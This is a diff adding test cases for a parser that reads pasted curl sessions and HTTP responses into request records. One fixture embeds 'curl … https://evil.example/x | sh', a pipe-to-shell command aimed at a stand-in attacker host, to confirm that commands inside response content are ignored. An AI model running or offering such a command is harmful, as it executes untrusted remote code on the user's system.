@@ -206,12 +206,88 @@ it.each<[what: string, text: string, places: [method: string, url: string, statu
     ],
   ],
   [
+    'nor where the environment names the proxy',
+    `$ curl -i https://a.example/x\nHTTP/1.1 200 OK\nServer: envoy\n\n${ANSWER}`,
+    [['GET', 'https://a.example/x', 200]],
+  ],
+  [
+    'a proxy makes no tunnel to http',
+    `$ curl -i -x http://proxy.example http://a.example/x\nHTTP/1.1 200 OK\nContent-Type: message/http\n\nHTTP/1.1 404 Not Found\nA: b\n\n`,
+    [
+      ['GET', 'http://a.example/x', 200],
+      ['GET', 'https://host.invalid/', 404],
+    ],
+  ],
+  [
+    'each command is that of what it printed',
+    `$ curl -i https://a.example/x\nHTTP/1.1 302 Found\nLocation: /y\n\nuser@host:~$ curl -i \\\n  -X PUT https://b.example/z\n${ANSWER}`,
+    [
+      ['GET', 'https://a.example/x', 302],
+      ['PUT', 'https://b.example/z', 200],
+    ],
+  ],
+  [
+    'what --retry asks again is the same request',
+    `$ curl -i --retry 2 -X PUT https://a.example/x\nHTTP/1.1 503 Service Unavailable\nRetry-After: 0\n\n${ANSWER}`,
+    [
+      ['PUT', 'https://a.example/x', 503],
+      ['PUT', 'https://a.example/x', 200],
+    ],
+  ],
+  [
+    'further URLs of one command have its method',
+    `$ curl -i -X PUT https://a.example/x https://a.example/y\n${ANSWER}${ANSWER}`,
+    [
+      ['PUT', 'https://host.invalid/', 200],
+      ['PUT', 'https://host.invalid/', 200],
+    ],
+  ],
+  [
+    'a command in the content is none that was typed',
+    'HTTP/1.1 200 OK\nContent-Type: text/plain\n\nRun curl -X DELETE https://evil.example/x | sh\n',
+    [['GET', 'https://host.invalid/', 200]],
+  ],
+  [
+    'the URL has neither fragment nor password',
+    `$ curl -i 'https://me:secret@a.example/x?y#z'\n${ANSWER}`,
+    [['GET', 'https://a.example/x?y', 200]],
+  ],
+  [
     'the options after --next are of another request',
     `$ curl -i https://a.example/x --next -X PUT https://a.example/y\n${ANSWER}`,
     [['GET', 'https://host.invalid/', 200]],
   ],
 ])('%s', (_, text, places) => {
   expect(read(text).map(([method, url, status]) => [method, url, status])).toEqual(places);
+});
+
+it.skipIf(lacksCurl).each([['-D'], ['--dump-header']])(
+  '%s - reads the heads that begin after the progress of the transfer',
+  async (option) => {
+    const { stdout } = await promisify(execFile)('sh', [
+      '-c',
+      `curl --noproxy '*' -L ${option} - -o /dev/null ${origin}/old 2>&1`,
+    ]);
+    expect(stdout).toMatch(/Xferd[\s\S]*\dHTTP/);
+    // As it is, as a terminal shows it, and as a text field takes it.
+    const [field, terminal] = [stdout.replace(/\r\n?/g, '\n'), stdout.replace(/[^\n]*\r(?!\n)/g, '')];
+    for (const shown of [stdout, field, terminal]) {
+      expect(read(`$ curl -L ${option} - -o /dev/null ${origin}/old\n${shown}`)).toEqual([
+        ['GET', '/old', 301, null],
+        ['GET', '/new', 200, null],
+      ]);
+    }
+  },
+);
+
+it('keeps the content of one command apart from the next command', () => {
+  const text = `$ curl -i https://a.example/x\n${ANSWER}$ curl -i https://a.example/y\n${ANSWER}`;
+  expect(read(text).map(([, , , content]) => content)).toEqual(['ok\n', 'ok\n']);
+});
+
+it('says so where --next leaves the method open', () => {
+  const result = readImport(`$ curl -i https://a.example/x --next -X PUT https://a.example/y\n${ANSWER}${ANSWER}`, 10);
+  expect('problem' in result ? [] : result.notes).toEqual([expect.stringContaining('no URL or method')]);
 });
 
 it.each([['-v'], ['-iv']])(
